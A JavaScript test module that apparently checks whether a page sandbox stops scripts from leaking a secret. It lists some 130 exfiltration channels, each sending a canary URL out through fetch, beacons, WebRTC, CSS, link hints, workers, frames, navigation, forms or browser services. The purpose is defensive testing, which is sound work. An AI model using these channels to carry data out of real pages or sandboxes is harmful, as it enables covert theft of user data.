// Every way in which a script could send something to another computer. Each is run inside the page's frame, with full
// power: a gesture of the user is pretended, and nothing of our own script stands in its way.
//
// A channel gets where to send: `url` (the canary, different for each channel, with the secret in it), `host` and `port`
// (the same in parts), `udp` (a port that listens for datagrams). `alone` marks those that need a document of their own,
// because they leave it or break it.

/**
 * @typedef {{url: string, host: string, port: number, udp: number}} Canary
 * @typedef {{name: string, alone?: boolean, send: (canary: Canary) => unknown}} Channel
 */

/** @type {Channel[]} */
export const CHANNELS = [
  // Requests of scripts
  { name: "fetch", send: ({ url }) => fetch(url) },
  { name: "fetch no-cors", send: ({ url }) => fetch(url, { mode: "no-cors" }) },
  { name: "fetch POST", send: ({ url }) => fetch(url, { method: "POST", mode: "no-cors", body: "secret" }) },
  { name: "fetch keepalive", send: ({ url }) => fetch(url, { mode: "no-cors", keepalive: true }) },
  { name: "fetchLater", send: ({ url }) => /** @type {any} */ (globalThis).fetchLater(url, { activateAfter: 0 }) },
  { name: "XMLHttpRequest", send: ({ url }) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); } },
  { name: "XMLHttpRequest, synchronous", send: ({ url }) => { const request = new XMLHttpRequest(); request.open("GET", url, false); request.send(); } },
  { name: "sendBeacon", send: ({ url }) => navigator.sendBeacon(url, "secret") },
  { name: "sendBeacon on leaving", alone: true, send: ({ url }) => { addEventListener("pagehide", () => navigator.sendBeacon(url)); location.reload(); } },
  { name: "EventSource", send: ({ url }) => void new EventSource(url) },
  { name: "WebSocket", send: ({ url }) => void new WebSocket(url.replace("http", "ws")) },
  { name: "WebSocketStream", send: ({ url }) => void new /** @type {any} */ (globalThis).WebSocketStream(url.replace("http", "ws")) },
  { name: "WebTransport", send: ({ host, udp }) => void new WebTransport(`https://${host}:${udp}/`) },
  { name: "WebRTC, STUN", send: ({ udp }) => peer(`stun:127.0.0.1:${udp}`) },
  { name: "WebRTC, STUN by name", send: ({ host, udp }) => peer(`stun:${host}:${udp}`) },
  { name: "WebRTC, TURN over TCP", send: ({ host, port }) => peer(`turn:${host}:${port}?transport=tcp`) },
  { name: "WebRTC of a new window", send: ({ udp }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    const Peer = /** @type {any} */ (frame.contentWindow).RTCPeerConnection;
    return begin(new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }));
  } },
  { name: "fetch of a new window", send: ({ url }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    return /** @type {any} */ (frame.contentWindow).fetch(url, { mode: "no-cors" });
  } },
  { name: "WebAssembly.compileStreaming", send: ({ url }) => WebAssembly.compileStreaming(fetch(url)) },

  // Pictures, sound, fonts
  { name: "Image", send: ({ url }) => { new Image().src = url; } },
  { name: "img srcset", send: ({ url }) => add("img", { srcset: `${url} 2x` }) },
  { name: "img attributionsrc", send: ({ url }) => add("img", { attributionsrc: url }) },
  { name: "picture source", send: ({ url }) => add("picture").append(make("source", { srcset: url }), make("img", { alt: "" })) },
  { name: "input type=image", send: ({ url }) => add("input", { type: "image", src: url }) },
  { name: "body background", send: ({ url }) => document.body.setAttribute("background", url) },
  { name: "SVG image", send: ({ url }) => vector("image", { href: url, width: "9", height: "9" }) },
  { name: "SVG use", send: ({ url }) => vector("use", { href: `${url}#x` }) },
  { name: "SVG feImage", send: ({ url }) => {
    vector("filter", { id: "leak" }).appendChild(document.createElementNS("http://www.w3.org/2000/svg", "feImage")).setAttribute("href", url);
    vector("rect", { width: "9", height: "9", filter: "url(#leak)" });
  } },
  { name: "video", send: ({ url }) => add("video", { src: url, preload: "auto" }) },
  { name: "video poster", send: ({ url }) => add("video", { poster: url }) },
  { name: "audio", send: ({ url }) => new Audio(url).play() },
  { name: "source", send: ({ url }) => add("video", { preload: "auto" }).append(make("source", { src: url })) },
  { name: "track", send: ({ url }) => {
    const track = /** @type {HTMLTrackElement} */ (make("track", { src: url, kind: "captions", default: "" }));
    add("video").append(track);
    track.track.mode = "showing";
  } },
  { name: "FontFace", send: ({ url }) => new FontFace("Leak", `url(${url})`).load() },
  { name: "ImageDecoder by fetch", send: async ({ url }) => createImageBitmap(await (await fetch(url)).blob()) },
  { name: "Notification icon", send: ({ url }) => void new Notification("x", { icon: url }) },
  { name: "MediaSession artwork", send: ({ url }) => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] }); } },

  // Styles
  { name: "style @import", send: ({ url }) => { add("style").textContent = `@import "${url}";`; } },
  { name: "style background", send: ({ url }) => { add("style").textContent = `body { background: url("${url}") }`; } },
  { name: "style @font-face", send: ({ url }) => { add("style").textContent = `@font-face { font-family: Leak; src: url("${url}") } body { font-family: Leak }`; } },
  { name: "style attribute", send: ({ url }) => add("div", { style: `background: url("${url}")` }) },
  { name: "style property", send: ({ url }) => { document.body.style.setProperty("background-image", `url("${url}")`); } },
  { name: "style image-set", send: ({ url }) => { document.body.style.setProperty("background-image", `image-set("${url}" 1x)`); } },
  { name: "style mask", send: ({ url }) => { add("p").style.setProperty("mask-image", `url("${url}")`); } },
  { name: "style border-image", send: ({ url }) => { add("p").style.cssText = `border: 9px solid; border-image: url("${url}") 9`; } },
  { name: "style list marker", send: ({ url }) => { add("li").style.listStyleImage = `url("${url}")`; } },
  { name: "style content", send: ({ url }) => { add("p").style.content = `url("${url}")`; } },
  { name: "style shape", send: ({ url }) => { add("p").style.cssText = `float: left; shape-outside: url("${url}")`; } },
  { name: "style sheet of a script", send: ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::before { content: url("${url}") }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  } },
  { name: "rule of a style sheet", send: ({ url }) => {
    const sheet = document.styleSheets[0] ?? /** @type {any} */ (add("style")).sheet;
    sheet.insertRule(`html { background: url("${url}") }`, sheet.cssRules.length);
  } },
  { name: "link stylesheet", send: ({ url }) => link("stylesheet", { href: url }) },
  { name: "paint worklet", send: ({ url }) => /** @type {any} */ (CSS).paintWorklet.addModule(url) },

  // Hints
  { name: "link prefetch", send: ({ url }) => link("prefetch", { href: url }) },
  { name: "link preload, image", send: ({ url }) => link("preload", { href: url, as: "image" }) },
  { name: "link preload, fetch", send: ({ url }) => link("preload", { href: url, as: "fetch", crossorigin: "" }) },
  { name: "link modulepreload", send: ({ url }) => link("modulepreload", { href: url }) },
  { name: "link preconnect", send: ({ url }) => link("preconnect", { href: new URL(url).origin }) },
  { name: "link dns-prefetch", send: ({ url }) => link("dns-prefetch", { href: new URL(url).origin }) },
  { name: "link prerender", send: ({ url }) => link("prerender", { href: url }) },
  { name: "link compression-dictionary", send: ({ url }) => link("compression-dictionary", { href: url }) },
  { name: "link icon", send: ({ url }) => link("icon", { href: url }) },
  { name: "link manifest", send: ({ url }) => link("manifest", { href: url }) },
  { name: "speculation rules, prefetch", send: ({ url }) => { add("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }] }); } },
  { name: "speculation rules, prerender", send: ({ url }) => { add("script", { type: "speculationrules" }).textContent = JSON.stringify({ prerender: [{ urls: [url], eagerness: "immediate" }] }); } },
  { name: "prefetch allowed by the page", send: ({ url }) => {
    document.head.append(make("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }), make("a", { href: url }));
  } },

  // Scripts and workers
  { name: "script", send: ({ url }) => add("script", { src: url }) },
  { name: "module script", send: ({ url }) => add("script", { src: url, type: "module" }) },
  { name: "import()", send: ({ url }) => import(url) },
  { name: "import() of a blob", send: ({ url }) => import(URL.createObjectURL(new Blob([`import ${JSON.stringify(url)}`], { type: "text/javascript" }))) },
  { name: "import map", send: ({ url }) => { add("script", { type: "importmap" }).textContent = JSON.stringify({ imports: { leak: url } }); return import(/** @type {any} */ ("leak")); } },
  { name: "eval", send: ({ url }) => (0, eval)(`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`) },
  { name: "inline script", send: ({ url }) => { add("script").textContent = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`; } },
  { name: "event handler attribute", send: ({ url }) => { const button = add("button", { onclick: `fetch(${JSON.stringify(url)}, { mode: "no-cors" })` }); button.click(); } },
  { name: "javascript: address", send: ({ url }) => { add("a", { href: `javascript:void fetch(${JSON.stringify(url)}, { mode: "no-cors" })` }).click(); } },
  { name: "Worker", send: ({ url }) => void new Worker(url) },
  { name: "Worker of a blob", send: ({ url }) => void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`]))) },
  { name: "SharedWorker", send: ({ url }) => void new SharedWorker(url) },
  { name: "service worker", send: ({ url }) => navigator.serviceWorker.register(url) },
  { name: "audio worklet", send: ({ url }) => new AudioContext().audioWorklet.addModule(url) },
  { name: "shared storage worklet", send: ({ url }) => /** @type {any} */ (globalThis).sharedStorage.worklet.addModule(url) },

  // Markup
  { name: "innerHTML", send: ({ url }) => { add("div").innerHTML = `<img src="${url}">`; } },
  { name: "setHTMLUnsafe", send: ({ url }) => /** @type {any} */ (add("div")).setHTMLUnsafe(`<img src="${url}">`) },
  { name: "document.write", alone: true, send: ({ url }) => { document.write(`<img src="${url}">`); } },
  { name: "base and a relative address", alone: true, send: ({ url }) => { document.head.append(make("base", { href: url })); add("img", { src: new URL(url).pathname.slice(1) }); } },
  { name: "iframe", send: ({ url }) => add("iframe", { src: url }) },
  { name: "iframe srcdoc", send: ({ url }) => { /** @type {HTMLIFrameElement} */ (add("iframe")).srcdoc = `<img src="${url}">`; } },
  { name: "iframe of a blob", send: ({ url }) => add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${url}">`], { type: "text/html" })) }) },
  { name: "iframe data:", send: ({ url }) => add("iframe", { src: `data:text/html,<img src="${url}">` }) },
  { name: "iframe without policy", send: ({ url }) => {
    const frame = /** @type {HTMLIFrameElement} */ (add("iframe"));
    frame.contentDocument?.body.append(Object.assign(frame.contentDocument.createElement("img"), { src: url }));
  } },
  { name: "fencedframe", send: ({ url }) => add("fencedframe", { src: url }) },
  { name: "object", send: ({ url }) => add("object", { data: url }) },
  { name: "embed", send: ({ url }) => add("embed", { src: url }) },
  { name: "meta refresh", alone: true, send: ({ url }) => document.head.append(make("meta", { "http-equiv": "refresh", content: `0;url=${url}` })) },
  { name: "XSLT", send: async ({ url }) => {
    const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url}"/></xsl:stylesheet>`, "text/xml");
    new XSLTProcessor().importStylesheet(sheet);
  } },
  { name: "report of a policy", send: ({ url }) => {
    document.head.append(make("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${url}` }));
    new Image().src = "http://reported.example/";
  } },

  // Leaving, windows, forms, files
  { name: "location", alone: true, send: ({ url }) => { location.href = url; } },
  { name: "location.replace", alone: true, send: ({ url }) => location.replace(url) },
  { name: "navigation.navigate", alone: true, send: ({ url }) => /** @type {any} */ (globalThis).navigation.navigate(url) },
  { name: "location of a blob", alone: true, send: ({ url }) => { location.href = URL.createObjectURL(new Blob([`<img src="${url}">`], { type: "text/html" })); } },
  { name: "location data:", alone: true, send: ({ url }) => { location.href = `data:text/html,<img src="${url}">`; } },
  { name: "location of the outer window", alone: true, send: ({ url }) => { top.location.href = url; } },
  { name: "location of the parent", alone: true, send: ({ url }) => parent.location.replace(url) },
  { name: "history", alone: true, send: ({ url }) => { history.pushState(null, "", url); location.reload(); } },
  { name: "window.open", alone: true, send: ({ url }) => { open(url); } },
  { name: "window.open, then write", alone: true, send: ({ url }) => { open("about:blank")?.document.write(`<img src="${url}">`); } },
  { name: "window.open, then lead", alone: true, send: ({ url }) => { const other = open("about:blank"); if (other) other.location.href = url; } },
  { name: "link", alone: true, send: ({ url }) => add("a", { href: url }).click() },
  { name: "link to a new window", alone: true, send: ({ url }) => add("a", { href: url, target: "_blank" }).click() },
  { name: "link to the outer window", alone: true, send: ({ url }) => add("a", { href: url, target: "_top" }).click() },
  { name: "link for saving", alone: true, send: ({ url }) => add("a", { href: url, download: "x" }).click() },
  { name: "link with ping", alone: true, send: ({ url }) => add("a", { href: "#x", ping: url }).click() },
  { name: "link with attributionsrc", alone: true, send: ({ url }) => add("a", { href: "#x", attributionsrc: url }).click() },
  { name: "area", alone: true, send: ({ url }) => { add("map").append(make("area", { href: url, shape: "default", id: "area" })); document.getElementById("area")?.click(); } },
  { name: "form GET", alone: true, send: ({ url }) => form({ action: url }).submit() },
  { name: "form POST", alone: true, send: ({ url }) => form({ action: url, method: "post" }).submit() },
  { name: "form to a new window", alone: true, send: ({ url }) => form({ action: url, target: "_blank" }).submit() },
  { name: "form by its button", alone: true, send: ({ url }) => { const button = make("button", { formaction: url }); form({}).append(button); button.click(); } },
  { name: "saving by the outer document", alone: true, send: ({ url }) => parent.postMessage({ save: { name: url, type: "text/html", text: `<img src="${url}">` } }, "*") },
  { name: "code for the outer document", alone: true, send: ({ url }) => parent.postMessage({ code: `AADSTS50011 ${url}` }, "*") },

  // Services of the browser
  { name: "FedCM", send: ({ url }) => navigator.credentials.get(/** @type {any} */ ({ identity: { providers: [{ configURL: url, clientId: "secret" }] } })) },
  { name: "payment handler", send: ({ url }) => new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).show() },
  { name: "presentation", send: ({ url }) => new /** @type {any} */ (globalThis).PresentationRequest(url).start() },
  { name: "background fetch", send: async ({ url }) => /** @type {any} */ (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", url) },
  { name: "ad auction", send: ({ url }) => /** @type {any} */ (navigator).joinAdInterestGroup({ owner: new URL(url).origin, name: "x", biddingLogicURL: url }, 9) },
  { name: "sharing", send: ({ url }) => navigator.share({ url }) },
  { name: "protocol handler", send: ({ url }) => navigator.registerProtocolHandler("web+leak", `${url}%s`) },
];

/** What the channels use. It is put into the page as it stands. */
export const HELPERS = `
function make(name, attributes = {}) {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return element;
}
const add = (name, attributes) => document.body.appendChild(make(name, attributes));
const link = (rel, attributes) => document.head.appendChild(make("link", { rel, ...attributes }));
function form(attributes) {
  const form = add("form", attributes);
  form.append(make("input", { name: "secret", value: "secret" }));
  return form;
}
function vector(name, attributes) {
  const space = "http://www.w3.org/2000/svg";
  const drawing = document.querySelector("svg.leak") ?? document.body.appendChild(document.createElementNS(space, "svg"));
  drawing.setAttribute("class", "leak");
  const element = drawing.appendChild(document.createElementNS(space, name));
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return element;
}
const peer = (urls) => begin(new RTCPeerConnection({ iceServers: [{ urls, username: "secret", credential: "secret" }] }));
async function begin(connection) {
  connection.createDataChannel("secret");
  await connection.setLocalDescription(await connection.createOffer());
}
`;
